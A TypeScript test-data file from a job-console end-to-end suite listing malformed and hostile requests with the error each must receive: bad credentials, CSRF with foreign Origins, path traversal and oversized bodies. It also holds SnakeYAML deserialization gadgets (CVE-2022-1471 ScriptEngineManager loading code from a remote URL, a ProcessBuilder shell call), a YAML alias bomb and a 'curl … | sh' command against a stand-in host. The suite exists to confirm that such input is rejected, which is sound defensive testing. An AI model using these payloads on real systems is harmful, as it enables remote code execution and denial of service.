import {
  CONFIG_2X,
  CONFIG_3X,
  CONFIG_SCRIPT_2X,
  CONFIG_SCRIPT_3X,
  EXTRA_REGISTRY,
  INSTANCE,
  JOBS,
  OFFLINE_IP,
  ONLINE_IP,
} from './seed';
import { parse as parseYaml } from 'yaml';
import type { LiveBody, Row } from './table';

/**
 * The bad-input checklist (issue 12, "The bad-input suite"): one row per bad request, with the exact
 * status and error code the console must answer, grouped as the spec runs them. Each group is followed by
 * a byte-for-byte comparison of the namespace and the data directory, so "changes nothing" is checked too.
 *
 * Two pseudo-codes name answers that come from Next.js's router, before any handler: a path whose encoded
 * dot segments (`%2E%2E`) normalise to a path that names no API route (404), or to a route without that
 * method (405). No handler runs, so nothing can be written.
 */
export const NO_ROUTE = 'NO_ROUTE';
export const NO_METHOD = 'NO_METHOD';

const API = '/api/registries/default';
const job = (name: string): string => `${API}/jobs/${name}`;
const J2 = job(JOBS.v2);
const J3 = job(JOBS.v3);
const S2 = job(JOBS.script2);
const S3 = job(JOBS.script3);
const REG = `/api/registries/${EXTRA_REGISTRY}`;

/** Throwaway user names for login floods: unique per run, so no real user is locked out. */
const RUN = Date.now().toString(36);
const ghost = (what: string): string => `ghost-${what}-${RUN}`;
const basic = (user: string, password: string): string => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;

const KB300 = Buffer.alloc(300 * 1024, 0x20);
const MB11 = Buffer.alloc(11 * 1024 * 1024, 0x20);
const DEEP_JSON = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
const DEEP_CONFIG_JSON = `{"config":{"description":${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}},"version":0}`;

/** Each seeded job's config as GET gives it: an object edit sends the whole object, changed where it changes. */
const STORED: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  [JOBS.v2]: CONFIG_2X,
  [JOBS.script2]: CONFIG_SCRIPT_2X,
  [JOBS.v3]: parseYaml(CONFIG_3X) as Record<string, unknown>,
  [JOBS.script3]: parseYaml(CONFIG_SCRIPT_3X) as Record<string, unknown>,
};

/**
 * An object edit of `name` at its current version: the stored config with `change` applied (a key set to
 * undefined is left out, i.e. removed).
 */
const edit =
  (name: string, change: Record<string, unknown>): LiveBody =>
  (v) => ({ config: Object.assign({}, STORED[name], change), version: v[name] });
const raw =
  (name: string, configRaw: string): LiveBody =>
  (v) => ({ configRaw, version: v[name] });

// ---- YAML payloads (3.x) ----------------------------------------------------------------------------
// The CVE-2022-1471 gadget: SnakeYAML with global tags builds it, and ScriptEngineManager loads code from the URL.
const SCRIPT_ENGINE = '!!javax.script.ScriptEngineManager [[!!java.net.URLClassLoader [[!!java.net.URL ["http://198.51.100.7/"]]]]]';
const withProp = (text: string, line: string): string => text.replace('props:\n', `props:\n  ${line}\n`);
const YAML_SCRIPT_ENGINE = withProp(CONFIG_3X, `x: ${SCRIPT_ENGINE}`);
const YAML_PROCESS_BUILDER = CONFIG_3X.replace('failover: false\n', 'failover: false\njobErrorHandlerType: !!java.lang.ProcessBuilder [["sh", "-c", "id"]]\n');
const YAML_ROOT_TAG = `!!com.example.EvilPojo\n${CONFIG_3X}`;
const YAML_LOCAL_TAG = withProp(CONFIG_3X, 'x: !evil payload');
const YAML_VERBATIM_TAG = withProp(CONFIG_3X, 'x: !<tag:yaml.org,2002:javax.script.ScriptEngineManager> [[]]');
const YAML_TAG_DIRECTIVE = `%TAG !e! tag:yaml.org,2002:javax.script.\n---\n${withProp(CONFIG_3X, 'x: !e!ScriptEngineManager [[]]')}`;
const ALIAS_BOMB = [
  'lol0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...Array.from({ length: 8 }, (_, i) => `  lol${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(',')}]`),
].join('\n');
const YAML_ALIAS_BOMB = withProp(CONFIG_3X, ALIAS_BOMB);
const YAML_TWO_DOCUMENTS = `${CONFIG_3X}---\n${CONFIG_3X.replace('shardingTotalCount: 2', 'shardingTotalCount: 9')}`;
const YAML_DEEP = withProp(CONFIG_3X, `x: ${'['.repeat(20_000)}${']'.repeat(20_000)}`);
const v3 = (from: string, to: string): string => {
  if (!CONFIG_3X.includes(from)) throw new Error(`CONFIG_3X has no ${JSON.stringify(from)}`);
  return CONFIG_3X.replace(from, to);
};
const EVIL_COMMAND = 'curl -s http://198.51.100.7/x | sh';

// ---- 1. credentials and roles ---------------------------------------------------------------------------

/** Every route and method, with a body where it takes one: anonymous gets 401 on each. */
const EVERY_ROUTE: readonly { method: Row['method']; path: string; body?: unknown }[] = [
  { method: 'GET', path: '/api/audit' },
  { method: 'GET', path: '/api/auth/me' },
  { method: 'GET', path: '/api/metrics' },
  { method: 'GET', path: '/api/registries' },
  { method: 'POST', path: '/api/registries', body: { id: 'anon', connectString: '127.0.0.1:2181', namespace: 'x' } },
  { method: 'POST', path: '/api/registries/test', body: { connectString: '127.0.0.1:2181', namespace: 'x' } },
  { method: 'GET', path: '/api/registries/namespaces?connectString=127.0.0.1%3A2181' },
  { method: 'PUT', path: REG, body: { name: 'renamed' } },
  { method: 'DELETE', path: REG },
  { method: 'GET', path: `${API}/events` },
  { method: 'GET', path: `${API}/jobs` },
  { method: 'GET', path: J2 },
  { method: 'DELETE', path: job(JOBS.v3) },
  { method: 'PUT', path: `${J2}/config`, body: { config: { description: 'anonymous' }, version: 0 } },
  { method: 'POST', path: `${J2}/trigger` },
  { method: 'POST', path: `${J2}/reshard` },
  { method: 'POST', path: `${J2}/disable` },
  { method: 'POST', path: `${J2}/enable` },
  { method: 'POST', path: `${J2}/shutdown` },
  { method: 'POST', path: `${J2}/servers/${OFFLINE_IP}/disable` },
  { method: 'POST', path: `${J2}/servers/${OFFLINE_IP}/enable` },
  { method: 'POST', path: `${J2}/items/0/disable` },
  { method: 'POST', path: `${J2}/items/0/enable` },
  { method: 'POST', path: `${J2}/instances/${INSTANCE}/shutdown` },
  { method: 'GET', path: `${API}/servers` },
  { method: 'POST', path: `${API}/servers/${OFFLINE_IP}/disable` },
  { method: 'POST', path: `${API}/servers/${OFFLINE_IP}/enable` },
  { method: 'DELETE', path: `${API}/servers/${OFFLINE_IP}` },
  { method: 'GET', path: `${API}/tree?path=/` },
  { method: 'GET', path: '/api/users' },
  { method: 'POST', path: '/api/users', body: { name: 'anon-made', role: 'admin', password: 'long-enough-1' } },
  { method: 'PATCH', path: '/api/users/e2e-viewer', body: { role: 'admin' } },
  { method: 'DELETE', path: '/api/users/e2e-viewer' },
];

/** The routes a viewer may not use (every write, and every admin route). */
const WRITES = EVERY_ROUTE.filter((r) => r.method !== 'GET' || r.path.startsWith('/api/users') || r.path.includes('/namespaces'));
/** The admin-only routes, which an operator may not use. */
const ADMIN_ONLY = EVERY_ROUTE.filter((r) => r.path.startsWith('/api/users') || (r.path.startsWith('/api/registries') && !r.path.startsWith(API) && !(r.method === 'GET' && r.path === '/api/registries')));

export const credentialRows: readonly Row[] = [
  ...EVERY_ROUTE.map((r): Row => ({ id: 'no credentials', who: 'anonymous', ...r, expect: [401, 'UNAUTHORIZED'] })),
  { id: 'no credentials, 300 KB body: 401 before the body', who: 'anonymous', method: 'PUT', path: `${J2}/config`, body: KB300, expect: [401, 'UNAUTHORIZED'] },
  { id: 'no credentials, 11 MB body: 401 before the body', who: 'anonymous', method: 'POST', path: '/api/users', body: MB11, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: not base64', who: 'anonymous', method: 'GET', path: '/api/registries', headers: { Authorization: 'Basic !!!not-base64!!!' }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: no colon', who: 'anonymous', method: 'GET', path: `${API}/jobs`, headers: { Authorization: `Basic ${Buffer.from('e2e-admin').toString('base64')}` }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: empty user', who: 'anonymous', method: 'GET', path: J2, headers: { Authorization: basic('', 'e2e-admin-password') }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: empty', who: 'anonymous', method: 'GET', path: '/api/auth/me', headers: { Authorization: 'Basic ' }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Bearer instead of Basic', who: 'anonymous', method: 'POST', path: `${J2}/trigger`, headers: { Authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.' }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: 300-character user', who: 'anonymous', method: 'GET', path: '/api/audit', headers: { Authorization: basic('u'.repeat(300), 'x') }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: 8 KB password', who: 'anonymous', method: 'GET', path: '/api/registries', headers: { Authorization: basic(ghost('long'), 'p'.repeat(8_000)) }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: NUL in user', who: 'anonymous', method: 'GET', path: '/api/registries', headers: { Authorization: basic('e2e-admin\u0000', 'e2e-admin-password') }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: unknown user', who: 'anonymous', method: 'DELETE', path: J2, headers: { Authorization: basic(ghost('unknown'), 'whatever-1') }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: wrong password of a real user', who: 'anonymous', method: 'GET', path: '/api/users', headers: { Authorization: basic('e2e-viewer', 'not-the-password') }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'Basic: right password, trailing garbage', who: 'anonymous', method: 'GET', path: '/api/registries', headers: { Authorization: `${basic('e2e-viewer', 'e2e-viewer-password')} extra` }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'wrong Basic beside a valid cookie: no fall-back to the cookie', who: 'operator:cookie', method: 'POST', path: `${J2}/disable`, headers: { Authorization: basic(ghost('fallback'), 'whatever-1') }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: signature forged', who: 'cookie:forged', method: 'GET', path: '/api/registries', expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: signature forged, write', who: 'cookie:forged', method: 'POST', path: `${J2}/trigger`, expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: payload changed to another user', who: 'cookie:tampered', method: 'GET', path: '/api/users', expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: validly signed but expired', who: 'cookie:expired', method: 'GET', path: '/api/auth/me', expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: logged out', who: 'cookie:logged-out', method: 'GET', path: `${API}/jobs`, expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: logged out, write', who: 'cookie:logged-out', method: 'POST', path: `${J2}/disable`, expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: 2,000 characters of junk', who: 'anonymous', method: 'GET', path: '/api/auth/me', headers: { Cookie: `sk_session=${'a'.repeat(2_000)}` }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'cookie: no signature', who: 'anonymous', method: 'GET', path: `${API}/events`, headers: { Cookie: 'sk_session=eyJ1IjoiZTJlLWFkbWluIn0' }, expect: [401, 'UNAUTHORIZED'] },
  ...WRITES.map((r): Row => ({ id: 'viewer may only read', who: 'viewer', ...r, expect: [403, 'FORBIDDEN'] })),
  { id: 'viewer session with its CSRF token', who: 'viewer:cookie', method: 'POST', path: `${J2}/trigger`, expect: [403, 'FORBIDDEN'] },
  { id: 'viewer, 300 KB body: 403 before the body', who: 'viewer', method: 'PUT', path: `${J2}/config`, body: KB300, expect: [403, 'FORBIDDEN'] },
  ...ADMIN_ONLY.map((r): Row => ({ id: 'operator is not admin', who: 'operator', ...r, expect: [403, 'FORBIDDEN'] })),
  { id: 'operator session is not admin', who: 'operator:cookie', method: 'POST', path: '/api/users', body: { name: 'made-by-op', role: 'admin', password: 'long-enough-1' }, expect: [403, 'FORBIDDEN'] },
];

// ---- 2. CSRF --------------------------------------------------------------------------------------------

export const csrfRows: readonly Row[] = [
  { id: 'cookie write without token', who: 'operator:cookie', csrf: 'none', method: 'POST', path: `${J2}/disable`, expect: [403, 'CSRF'] },
  { id: 'cookie write, wrong token', who: 'operator:cookie', csrf: 'wrong', method: 'POST', path: `${J2}/trigger`, expect: [403, 'CSRF'] },
  { id: "cookie write, another session's token", who: 'operator:cookie', csrf: 'other-session', method: 'POST', path: `${J2}/reshard`, expect: [403, 'CSRF'] },
  { id: 'cookie write, foreign Origin', who: 'operator:cookie', method: 'POST', path: `${J2}/enable`, headers: { Origin: 'http://evil.example' }, expect: [403, 'CSRF'] },
  { id: 'cookie write, Origin null', who: 'operator:cookie', method: 'POST', path: `${API}/servers/${OFFLINE_IP}/enable`, headers: { Origin: 'null' }, expect: [403, 'CSRF'] },
  { id: 'cookie write, look-alike Origin', who: 'operator:cookie', method: 'POST', path: `${J2}/items/0/disable`, headers: { Origin: 'http://127.0.0.1.evil.example' }, expect: [403, 'CSRF'] },
  { id: 'cookie write, Origin on another port', who: 'operator:cookie', method: 'POST', path: `${J2}/servers/${OFFLINE_IP}/enable`, headers: { Origin: 'http://127.0.0.1:1' }, expect: [403, 'CSRF'] },
  { id: 'cookie write, no Origin and no token', who: 'operator:cookie', csrf: 'none', method: 'POST', path: `${J2}/instances/${INSTANCE}/shutdown`, headers: { Origin: null }, expect: [403, 'CSRF'] },
  { id: 'cookie config edit without token', who: 'operator:cookie', csrf: 'none', method: 'PUT', path: `${J2}/config`, body: edit(JOBS.v2, { description: 'csrf' }), expect: [403, 'CSRF'] },
  { id: 'cookie job removal without token', who: 'operator:cookie', csrf: 'none', method: 'DELETE', path: J3, expect: [403, 'CSRF'] },
  { id: 'cookie server removal, wrong token', who: 'operator:cookie', csrf: 'wrong', method: 'DELETE', path: `${API}/servers/${OFFLINE_IP}`, expect: [403, 'CSRF'] },
  { id: 'cookie job shutdown, foreign Origin', who: 'operator:cookie', method: 'POST', path: `${J2}/shutdown`, headers: { Origin: 'https://evil.example' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: create user without token', who: 'admin:cookie', csrf: 'none', method: 'POST', path: '/api/users', body: { name: 'csrf-made', role: 'admin', password: 'long-enough-1' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: change user, wrong token', who: 'admin:cookie', csrf: 'wrong', method: 'PATCH', path: '/api/users/e2e-viewer', body: { role: 'admin' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: remove user, foreign Origin', who: 'admin:cookie', method: 'DELETE', path: '/api/users/e2e-viewer', headers: { Origin: 'http://evil.example' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: add registry without token', who: 'admin:cookie', csrf: 'none', method: 'POST', path: '/api/registries', body: { id: 'csrf-made', connectString: '127.0.0.1:2181', namespace: 'x' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: edit registry, wrong token', who: 'admin:cookie', csrf: 'wrong', method: 'PUT', path: REG, body: { name: 'csrf' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: remove registry, foreign Origin', who: 'admin:cookie', method: 'DELETE', path: REG, headers: { Origin: 'http://evil.example' }, expect: [403, 'CSRF'] },
  { id: 'admin cookie: connection test without token', who: 'admin:cookie', csrf: 'none', method: 'POST', path: '/api/registries/test', body: { connectString: '127.0.0.1:2181', namespace: 'x' }, expect: [403, 'CSRF'] },
  // X-Forwarded-Host is the client's own unless SHARDKEEPER_TRUST_PROXY names a proxy (issue 12 §4): it must
  // not make a foreign Origin look like this console. (Both requests change nothing if wrongly let through.)
  { id: 'cookie write, foreign Origin and a forged X-Forwarded-Host to match', who: 'operator:cookie', method: 'POST', path: `${J2}/items/0/enable`, headers: { Origin: 'http://evil.example', 'X-Forwarded-Host': 'evil.example' }, expect: [403, 'CSRF'] },
  { id: 'login, foreign Origin and a forged X-Forwarded-Host to match', who: 'anonymous', method: 'POST', path: '/api/auth/login', headers: { Origin: 'http://evil.example', 'X-Forwarded-Host': 'evil.example' }, body: { user: ghost('xfh'), password: 'wrong-password' }, expect: [403, 'CSRF'] },
  { id: 'Basic from a cross-site page', who: 'operator', method: 'POST', path: `${J2}/disable`, headers: { 'Sec-Fetch-Site': 'cross-site' }, expect: [403, 'CSRF'] },
  { id: 'Basic from a same-site (other subdomain) page', who: 'admin', method: 'DELETE', path: '/api/users/e2e-viewer', headers: { 'Sec-Fetch-Site': 'same-site' }, expect: [403, 'CSRF'] },
  { id: 'login from a foreign Origin', who: 'anonymous', method: 'POST', path: '/api/auth/login', headers: { Origin: 'http://evil.example' }, body: { user: 'e2e-admin', password: 'e2e-admin-password' }, expect: [403, 'CSRF'] },
  { id: 'logout from a foreign Origin', who: 'operator:cookie', method: 'POST', path: '/api/auth/logout', headers: { Origin: 'http://evil.example' }, expect: [403, 'CSRF'] },
];

// ---- 3. names, items, ids, paths and queries --------------------------------------------------------

const LONG = 'j'.repeat(300);
export const nameRows: readonly Row[] = [
  { id: 'health: a query parameter (it takes none)', who: 'anonymous', method: 'GET', path: '/api/health?verbose=1', expect: [400, 'BAD_REQUEST'] },
  { id: 'metrics: a query parameter (it takes none)', who: 'viewer', method: 'GET', path: '/api/metrics?name=x', expect: [400, 'BAD_REQUEST'] },
  { id: 'metrics: a bearer token while none is configured', who: 'anonymous', method: 'GET', path: '/api/metrics', headers: { Authorization: 'Bearer guess' }, expect: [401, 'UNAUTHORIZED'] },
  { id: 'job: encoded ../', who: 'operator', method: 'POST', path: `${API}/jobs/..%2F${JOBS.v2}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: encoded /../', who: 'operator', method: 'POST', path: `${API}/jobs/${JOBS.v2}%2F..%2F${JOBS.v3}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: %2F alone', who: 'operator', method: 'POST', path: `${API}/jobs/%2F/trigger`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: %2E%2E normalises to no route', who: 'operator', method: 'POST', path: `${API}/jobs/%2E%2E/disable`, expect: [404, NO_ROUTE] },
  { id: 'job: %2E normalises onto jobs/{job} without POST', who: 'operator', method: 'POST', path: `${API}/jobs/%2E/disable`, expect: [405, NO_METHOD] },
  { id: 'job: NUL', who: 'operator', method: 'POST', path: `${API}/jobs/${JOBS.v2}%00/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: NUL alone', who: 'operator', method: 'DELETE', path: `${API}/jobs/%00`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: newline', who: 'operator', method: 'POST', path: `${API}/jobs/bad%0Ajob/trigger`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: 300 characters', who: 'operator', method: 'POST', path: `${API}/jobs/${LONG}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: 130 two-byte characters (260 bytes)', who: 'viewer', method: 'GET', path: `${API}/jobs/${'%C3%A9'.repeat(130)}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: encoded ../ on the config route', who: 'operator', method: 'PUT', path: `${API}/jobs/..%2F${JOBS.v2}/config`, body: { config: { description: 'x' }, version: 0 }, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: encoded ../ on removal', who: 'operator', method: 'DELETE', path: `${API}/jobs/..%2F${JOBS.v2}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job: unknown', who: 'viewer', method: 'GET', path: job(`no-such-job-${RUN}`), expect: [404, 'NOT_FOUND'] },
  { id: 'job: unknown, write', who: 'operator', method: 'POST', path: `${job(`no-such-job-${RUN}`)}/disable`, expect: [404, 'NOT_FOUND'] },
  { id: 'job: removal while an instance is online', who: 'operator', method: 'DELETE', path: J2, expect: [409, 'JOB_ONLINE'] },
  { id: 'job: trigger with no instance online', who: 'operator', method: 'POST', path: `${J3}/trigger`, expect: [409, 'NO_INSTANCES'] },
  { id: 'item: leading zeros', who: 'operator', method: 'POST', path: `${J2}/items/007/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: 00', who: 'operator', method: 'POST', path: `${J2}/items/00/enable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: negative', who: 'operator', method: 'POST', path: `${J2}/items/-1/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: above Java int', who: 'operator', method: 'POST', path: `${J2}/items/2147483648/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: exponent', who: 'operator', method: 'POST', path: `${J2}/items/1e1/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: hex', who: 'operator', method: 'POST', path: `${J2}/items/0x1/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: plus sign', who: 'operator', method: 'POST', path: `${J2}/items/%2B1/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: decimal point', who: 'operator', method: 'POST', path: `${J2}/items/1.0/enable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: space', who: 'operator', method: 'POST', path: `${J2}/items/%201/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: encoded ../', who: 'operator', method: 'POST', path: `${J2}/items/..%2F0/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: NUL', who: 'operator', method: 'POST', path: `${J2}/items/0%00/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'item: not below shardingTotalCount (3)', who: 'operator', method: 'POST', path: `${J2}/items/3/disable`, expect: [404, 'NOT_FOUND'] },
  { id: 'item: largest Java int', who: 'operator', method: 'POST', path: `${J2}/items/2147483647/disable`, expect: [404, 'NOT_FOUND'] },
  { id: 'job server: encoded ../../', who: 'operator', method: 'POST', path: `${J2}/servers/..%2F..%2F${JOBS.v3}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job server: ip/..', who: 'operator', method: 'POST', path: `${J2}/servers/${ONLINE_IP}%2F../enable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job server: markup', who: 'operator', method: 'POST', path: `${J2}/servers/%3Cscript%3E/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job server: NUL', who: 'operator', method: 'POST', path: `${J2}/servers/${ONLINE_IP}%00/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job server: an instance id', who: 'operator', method: 'POST', path: `${J2}/servers/${INSTANCE}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job server: 300 characters', who: 'operator', method: 'POST', path: `${J2}/servers/${'1'.repeat(300)}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job server: unknown', who: 'operator', method: 'POST', path: `${J2}/servers/10.9.9.9/disable`, expect: [404, 'NOT_FOUND'] },
  { id: 'server: encoded ../', who: 'operator', method: 'POST', path: `${API}/servers/..%2F${JOBS.v2}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'server: space', who: 'operator', method: 'POST', path: `${API}/servers/10.7.0.1%20/enable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'server: encoded ip/.. on removal', who: 'operator', method: 'DELETE', path: `${API}/servers/${OFFLINE_IP}%2F..`, expect: [400, 'BAD_REQUEST'] },
  { id: 'server: unknown', who: 'operator', method: 'DELETE', path: `${API}/servers/10.9.9.9`, expect: [404, 'NOT_FOUND'] },
  { id: 'server: removal while its instance is online', who: 'operator', method: 'DELETE', path: `${API}/servers/${ONLINE_IP}`, expect: [409, 'SERVER_ONLINE'] },
  { id: 'instance: no @-@', who: 'operator', method: 'POST', path: `${J2}/instances/no-delimiter/shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: encoded ../../config', who: 'operator', method: 'POST', path: `${J2}/instances/..%2F..%2Fconfig/shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: id/../..', who: 'operator', method: 'POST', path: `${J2}/instances/${INSTANCE}%2F..%2F../shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: empty pid', who: 'operator', method: 'POST', path: `${J2}/instances/${ONLINE_IP}@-@/shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: empty ip', who: 'operator', method: 'POST', path: `${J2}/instances/@-@4242/shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: NUL', who: 'operator', method: 'POST', path: `${J2}/instances/${INSTANCE}%00/shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: 300 characters', who: 'operator', method: 'POST', path: `${J2}/instances/${ONLINE_IP}@-@${'9'.repeat(300)}/shutdown`, expect: [400, 'BAD_REQUEST'] },
  { id: 'instance: unknown', who: 'operator', method: 'POST', path: `${J2}/instances/${ONLINE_IP}@-@9999/shutdown`, expect: [404, 'NOT_FOUND'] },
  { id: 'registry: encoded ../', who: 'viewer', method: 'GET', path: '/api/registries/..%2Fdefault/jobs', expect: [400, 'BAD_REQUEST'] },
  { id: 'registry: %2E%2E normalises to no route', who: 'viewer', method: 'GET', path: '/api/registries/%2E%2E/servers', expect: [404, NO_ROUTE] },
  { id: 'registry: 65 characters', who: 'viewer', method: 'GET', path: `/api/registries/${'r'.repeat(65)}/jobs`, expect: [400, 'BAD_REQUEST'] },
  { id: 'registry: NUL', who: 'viewer', method: 'GET', path: '/api/registries/de%00fault/servers', expect: [400, 'BAD_REQUEST'] },
  { id: 'registry: unknown', who: 'viewer', method: 'GET', path: `/api/registries/nope-${RUN}/jobs`, expect: [404, 'NOT_FOUND'] },
  { id: 'registry: unknown, events', who: 'viewer', method: 'GET', path: `/api/registries/nope-${RUN}/events`, expect: [404, 'NOT_FOUND'] },
  { id: 'registry: bad id, events', who: 'viewer', method: 'GET', path: '/api/registries/a%2Fb/events', expect: [400, 'BAD_REQUEST'] },
  { id: 'registry: bad id, write', who: 'operator', method: 'POST', path: `/api/registries/..%2F..%2Fdefault/jobs/${JOBS.v2}/disable`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: limit 0', who: 'viewer', method: 'GET', path: `${API}/jobs?limit=0`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: limit 1001', who: 'viewer', method: 'GET', path: `${API}/jobs?limit=1001`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: offset negative', who: 'viewer', method: 'GET', path: `${API}/jobs?limit=10&offset=-1`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: offset not a number', who: 'viewer', method: 'GET', path: `${API}/jobs?offset=1e3x`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: unknown status', who: 'viewer', method: 'GET', path: `${API}/jobs?status=BROKEN`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: unknown sort', who: 'viewer', method: 'GET', path: `${API}/jobs?sort=__proto__`, expect: [400, 'BAD_REQUEST'] },
  { id: 'job list: search of 201 characters', who: 'viewer', method: 'GET', path: `${API}/jobs?q=${'x'.repeat(201)}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: .. segment', who: 'viewer', method: 'GET', path: `${API}/tree?path=/..%2F${JOBS.v2}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: encoded %2E%2E', who: 'viewer', method: 'GET', path: `${API}/tree?path=/%2E%2E`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: relative', who: 'viewer', method: 'GET', path: `${API}/tree?path=${JOBS.v2}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: empty segment', who: 'viewer', method: 'GET', path: `${API}/tree?path=/${JOBS.v2}//config`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: . segment', who: 'viewer', method: 'GET', path: `${API}/tree?path=/${JOBS.v2}/./config`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: NUL', who: 'viewer', method: 'GET', path: `${API}/tree?path=/${JOBS.v2}%00`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: 4,100 characters', who: 'viewer', method: 'GET', path: `${API}/tree?path=/${'x'.repeat(4_100)}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'tree: unknown node', who: 'viewer', method: 'GET', path: `${API}/tree?path=/no-such-node-${RUN}`, expect: [404, 'NOT_FOUND'] },
  { id: 'audit: limit 0', who: 'viewer', method: 'GET', path: '/api/audit?limit=0', expect: [400, 'BAD_REQUEST'] },
  { id: 'audit: limit 1001', who: 'viewer', method: 'GET', path: '/api/audit?limit=1001', expect: [400, 'BAD_REQUEST'] },
  { id: 'audit: limit not a number', who: 'viewer', method: 'GET', path: '/api/audit?limit=ten', expect: [400, 'BAD_REQUEST'] },
  { id: 'audit: limit negative', who: 'viewer', method: 'GET', path: '/api/audit?limit=-5', expect: [400, 'BAD_REQUEST'] },
  { id: 'audit: registry ../', who: 'viewer', method: 'GET', path: '/api/audit?registry=..%2Fdefault', expect: [400, 'BAD_REQUEST'] },
  { id: 'audit: registry unknown', who: 'viewer', method: 'GET', path: `/api/audit?registry=nope-${RUN}`, expect: [404, 'NOT_FOUND'] },
  { id: 'audit: job 300 characters', who: 'viewer', method: 'GET', path: `/api/audit?registry=default&job=${LONG}`, expect: [400, 'BAD_REQUEST'] },
  { id: 'user: encoded ../', who: 'admin', method: 'PATCH', path: '/api/users/..%2Fe2e-admin', body: { role: 'viewer' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'user: colon', who: 'admin', method: 'DELETE', path: '/api/users/a:b', expect: [400, 'BAD_REQUEST'] },
  { id: 'user: NUL', who: 'admin', method: 'DELETE', path: '/api/users/e2e-viewer%00', expect: [400, 'BAD_REQUEST'] },
  { id: 'user: 65 characters', who: 'admin', method: 'PATCH', path: `/api/users/${'u'.repeat(65)}`, body: { role: 'viewer' }, expect: [400, 'BAD_REQUEST'] },
];

// ---- 4. bodies ------------------------------------------------------------------------------------------

export const bodyRows: readonly Row[] = [
  { id: 'not JSON', who: 'operator', method: 'POST', path: `${J2}/disable`, body: '{', expect: [400, 'BAD_REQUEST'] },
  { id: 'JSON null', who: 'operator', method: 'POST', path: `${J2}/trigger`, body: 'null', expect: [400, 'BAD_REQUEST'] },
  { id: 'JSON array', who: 'operator', method: 'POST', path: `${J2}/reshard`, body: '[]', expect: [400, 'BAD_REQUEST'] },
